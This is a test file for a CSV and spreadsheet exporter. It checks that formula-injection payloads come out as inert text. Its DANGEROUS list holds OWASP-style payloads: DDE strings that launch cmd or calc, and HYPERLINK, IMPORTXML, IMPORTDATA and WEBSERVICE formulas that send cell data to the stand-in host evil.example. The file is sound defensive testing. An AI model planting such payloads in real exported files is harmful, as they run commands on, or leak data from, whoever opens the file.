import { buffer } from 'node:stream/consumers';
import { growthAtFourTimes } from '../../test/growth.js';
import { unzipped } from '../../test/workbook.js';
import { csv, csvCell, spreadsheet, unguarded, type Cell } from '../platform/documents/index.js';
import { rowsIn } from '../../test/read-rows.js';

/** What spreadsheets have been made to run; sources: OWASP "CSV Injection", and reports about other exporters. */
const DANGEROUS = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example?",A2:E2),"//a")',
  '=IMPORTDATA("http://evil.example")',
  '=IMAGE("http://evil.example/"&A1)',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "=SUM(A1:A9)*cmd|' /C calc'!A0",
  '=A1',
  '="="&A1',
  '=+1',
  '==1',
  '= 1+1',
  '+1+1',
  "+cmd|'/C calc'!A0",
  '+1 212 555 0100',
  '+HYPERLINK("http://evil.example")',
  '-1+1',
  "-cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  '-',
  '@SUM(1+1)',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '@A1',
  '\t=1+1',
  '\tx',
  '\r=1+1',
  '\rx',
  '\n=1+1',
  '\nx',
  '\r\n+1',
  ' =1+1',
  '   @SUM(1)',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u200f=1+1',
  '\u0000=1+1',
  '\u0001-1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '|calc!A0',
  " |'/C calc'!A0",
  '｜calc!A0',
  '\u200b｜1',
  '=1+1;=2+2',
  '=1+1,"=2+2"',
  '"=1+1',
  'x";=1+1;"',
];

const HARMLESS = [
  'Sarah Levin',
  'ט״ו אדר',
  'a=b',
  "O'Brien",
  '5 + 5',
  'x@example.org',
  '1N-1',
  '',
  '"quoted"',
  'two\nlines',
];

const tableOf = (cells: readonly Cell[]) => ({
  headings: ['Cell'],
  rows: (async function* () {
    for (const cell of cells) yield await Promise.resolve([cell]);
  })(),
});

describe('text that a spreadsheet could run', () => {
  it.each(DANGEROUS)('given %j, then CSV makes it text, and no separator or quote lets it out', (cell) => {
    const written = csvCell(cell);
    const inside = written.slice(1, -1);

    expect(written.startsWith('"') && written.endsWith('"')).toBe(true);
    expect(inside.replaceAll('""', '')).not.toContain('"');
    expect(inside).toMatch(/^(?:'|""|x)/);
    expect(unguarded(inside.replaceAll('""', '"'))).toBe(cell);
  });

  it.each([
    ...DANGEROUS,
    ...['x;=1+1', 'x\t@SUM(1)', 'two\n-1+1', 'x\r+1', 'x; "=1"', "x;'=1", 'x;\u200b＝1', '1; 2;|calc!A0'],
  ])(
    'given %j in a second column, then a spreadsheet that separates by semicolons or tabs finds no formula',
    (cell) => {
      const line = ['x', cell, 'y'].map(csvCell).join(',');

      for (const begun of line.split(/[;\t\r\n]/)) expect(begun).not.toMatch(/^[\s\p{Cc}\p{Cf}"]*[=+\-@|＝＋－＠｜]/u);
      expect(unguarded(csvCell(cell).slice(1, -1).replaceAll('""', '"'))).toBe(cell);
    },
  );

  it('given more blanks, then the time to write them grows with their number only', async () => {
    expect(await growthAtFourTimes(50_000, (size) => csvCell(`${'\t'.repeat(size)}x`))).toBeLessThan(10);
  });

  it.each(HARMLESS)('given %j, then it is written as it is', (cell) => {
    expect(csvCell(cell)).toBe(`"${cell.replaceAll('"', '""')}"`);
  });

  it('given numbers below zero and truths, then they stay numbers and truths', () => {
    expect([-5, 0, true, false, null].map(csvCell)).toEqual(['-5', '0', 'true', 'false', '']);
  });

  it('given a workbook of all of them, then it has no formula, and every cell is text that keeps its words', async () => {
    const sheet = spreadsheet(tableOf(DANGEROUS), { title: 'All', rightToLeft: false, at: new Date(0) });
    const file = await buffer(sheet);

    const xml = (await unzipped(file)).get('xl/worksheets/sheet1.xml') ?? '';
    expect(xml).not.toContain('<f');
    expect(xml.match(/<c /g)).toHaveLength(DANGEROUS.length + 1);
    expect(xml.match(/<c t="inlineStr" s="\d">/g)).toHaveLength(DANGEROUS.length + 1);
    const read = (await rowsIn(file)).slice(1).map(([cell = '']) => cell);
    const plain = (cell: string) =>
      cell
        .replace(/\p{Cc}|\ufeff/gu, ' ')
        .replace(/\s+/g, ' ')
        .trim();
    expect(read.map(plain)).toEqual(DANGEROUS.map(plain));
  });

  it('given CSV, then Excel knows that it is UTF-8, and it reads back as it was', async () => {
    const file = await buffer(csv(tableOf(['שרה', 'Zoë, "x"'])));

    expect(file.subarray(0, 3).toString('hex')).toBe('efbbbf');
    expect(await rowsIn(file)).toEqual([['Cell'], ['שרה'], ['Zoë, "x"']]);
  });
});
